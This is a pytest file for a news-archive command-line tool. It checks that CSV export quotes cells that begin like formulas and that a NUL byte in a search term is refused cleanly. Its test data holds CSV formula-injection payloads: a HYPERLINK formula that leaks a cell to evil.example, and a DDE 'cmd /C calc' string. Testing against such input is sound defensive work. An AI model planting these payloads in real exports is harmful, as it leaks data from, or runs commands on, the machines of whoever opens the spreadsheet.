"""Hostile text in and out of the archive: CSV formula injection, NUL in a search term.

Both through the ``newsmon`` command, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from newsmon.cli.main import main
from newsmon.store.database import Database
from newsmon.store.models import Article
from tests.conftest import write_config

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "KT·MS AI 동맹",  # ordinary text stays as it is
]


def _archive(db_url: str, titles: list[str]) -> None:
    db = Database(db_url)
    try:
        with db.session() as s:
            for i, title in enumerate(titles):
                when = datetime(2024, 9, 1, i, tzinfo=timezone.utc)
                s.add(Article(url=f"https://news.example/{i}", canonical_url=f"https://news.example/{i}", title=title,
                              body="KT와 마이크로소프트", relevant=True, source="한빛일보", published_at=when, sort_at=when))
    finally:
        db.dispose()


def _run(capsys: pytest.CaptureFixture[str], config: Path, *args: str) -> tuple[int, str, str]:
    code = main(["--config", str(config), *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_csv_cells_that_start_like_formulas_are_quoted(db_url: str, tmp_path: Path, capsys: Any) -> None:
    _archive(db_url, HOSTILE_TITLES)
    config = write_config(tmp_path / "newsmon.toml", database_url=db_url, sources=[])
    code, out, err = _run(capsys, config, "articles", "--format", "csv", "--limit", "0")
    assert code == 0, err
    titles = [row["title"] for row in csv.DictReader(io.StringIO(out))]
    assert sorted(titles) == sorted("'" + t if t[0] in "=+-@\t" else t for t in HOSTILE_TITLES)
    assert not any(t.startswith(("=", "+", "-", "@", "\t")) for t in titles)
    ids = [row["id"] for row in csv.DictReader(io.StringIO(out))]
    assert all(i.isdigit() for i in ids)  # numbers are not text: left as they are


@pytest.mark.parametrize("option", ["--contains", "--source"])
def test_nul_in_a_search_term_is_refused_in_one_line(db_url: str, tmp_path: Path, capsys: Any, option: str) -> None:
    _archive(db_url, HOSTILE_TITLES)
    config = write_config(tmp_path / "newsmon.toml", database_url=db_url, sources=[])
    code, out, err = _run(capsys, config, "articles", option, "KT\x00MS")
    assert code == 2, (code, out, err)
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("newsmon: error: ") and option in lines[0], err
    assert "Traceback" not in err and out == ""
    code, out, err = _run(capsys, config, "articles", option, "KT" if option == "--contains" else "한빛")
    assert code == 0 and "KT" in out, err  # the same query without the NUL works
